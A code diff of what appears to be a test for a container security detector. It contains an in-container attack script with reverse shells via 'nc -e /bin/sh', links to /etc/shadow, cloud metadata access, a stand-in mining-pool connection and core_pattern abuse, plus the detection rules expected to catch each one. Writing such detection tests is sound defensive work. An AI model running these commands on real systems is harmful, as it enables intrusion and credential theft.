@@ -67,7 +67,7 @@ $A packet-socket
 cat /var/run/docker.sock
 $A connect-unix /run/containerd/containerd.sock
 $A connect 169.254.169.254 80
-/bin/sh -c "$A connect 127.0.0.1 3333; exec true stratum+tcp://pool.example:3333"
+$A connect 127.0.0.1 3333 --url=stratum+tcp://pool.example:3333
 touch /tmp/f; $A setuid /tmp/f; $A setcap /tmp/f
 $A scan 127.0.0.1 20000 20040
 echo '|/tmp/x' > /proc/sys/kernel/core_pattern
@@ -76,8 +76,8 @@ $A procmem 1
 ln -s /etc/shadow /tmp/shadow-link
 ln /etc/shadow /tmp/shadow-hard
 nc -l -p 4444 > /dev/null & sleep 0.3; $A dup2-shell 127.0.0.1 4444
-nc -l -p 4445 > /dev/null & sleep 0.3; nc 127.0.0.1 4445 -e /bin/sh
-touch /tmp/attacks-done
+nc -l -p 4445 > /dev/null & sleep 0.3; nc 127.0.0.1 4445 -e /bin/sh & sleep 0.5
+$A attacks-done   # busybox runs touch/echo/rm in-process: an exec marks the end
 exec sleep 600
 """
 
@@ -135,7 +135,7 @@ def scene() -> Iterator[Scene]:
                           start=True) as ctr:
                 agent.events.wait_for(
                     lambda e: e.get("type") == "exec"
-                    and "/tmp/attacks-done" in e["process"]["args"], timeout=120,
+                    and "attacks-done" in e["process"]["args"], timeout=120,
                     what="the attack script to finish")
 
                 def exec_ctr(*argv: str) -> subprocess.CompletedProcess[str]:
@@ -197,7 +197,8 @@ EXPECTED: list[tuple[str, Callable[[Event], bool]]] = [
     ("Modify PAM configuration", file_is("/etc/pam.d/common-auth")),
     ("Log or history tampering", file_is("/var/log/auth.log")),
     ("Log or history tampering", file_is("/root/.ash_history")),
-    ("Log or history tampering", syscall_is("unlinkat", path="/var/log/messages")),
+    ("Log or history tampering",
+     lambda a: (a["event"].get("syscall") or {}).get("path") == "/var/log/messages"),
     ("Package manager in container", proc_arg("evil")),
     ("Execution from temporary or memory file system",
      lambda a: a["event"]["process"]["binary"] == "/tmp/bb"),
@@ -222,7 +223,7 @@ EXPECTED: list[tuple[str, Callable[[Event], bool]]] = [
     ("Cloud metadata endpoint contacted",
      lambda a: a["event"]["network"]["daddr"] == "169.254.169.254"),
     ("Connection to mining pool port", lambda a: a["event"]["network"]["dport"] == 3333),
-    ("Crypto miner launched", lambda a: "stratum+tcp://pool.example:3333"
+    ("Crypto miner launched", lambda a: "--url=stratum+tcp://pool.example:3333"
      in a["event"]["process"]["args"]),
     ("Setuid or setgid bit set", syscall_is("chmod", mode="4755")),
     ("Setuid or setgid bit set", syscall_is("fchmodat", mode="2755")),
@@ -234,7 +235,10 @@ EXPECTED: list[tuple[str, Callable[[Event], bool]]] = [
     ("Process memory access via /proc", file_is("/proc/1/mem")),
     ("Link to sensitive file", syscall_is("symlink", target="/etc/shadow")),
     ("Link to sensitive file", syscall_is("link", target="/etc/shadow")),
-    ("Reverse shell", syscall_is("dup2")),
+    # a socket dup2'ed onto stdio, then a shell (the C/Python/perl one-liners)
+    ("Reverse shell", lambda a: (a["event"].get("syscall") or {}).get("name") == "execve"
+     and (a["event"]["syscall"].get("peer") or {}).get("dport") == 4444),
+    # nc -e /bin/sh
     ("Reverse shell", lambda a: (a["event"].get("syscall") or {}).get("name") == "execve"
      and (a["event"]["syscall"].get("peer") or {}).get("dport") == 4445),
 ]
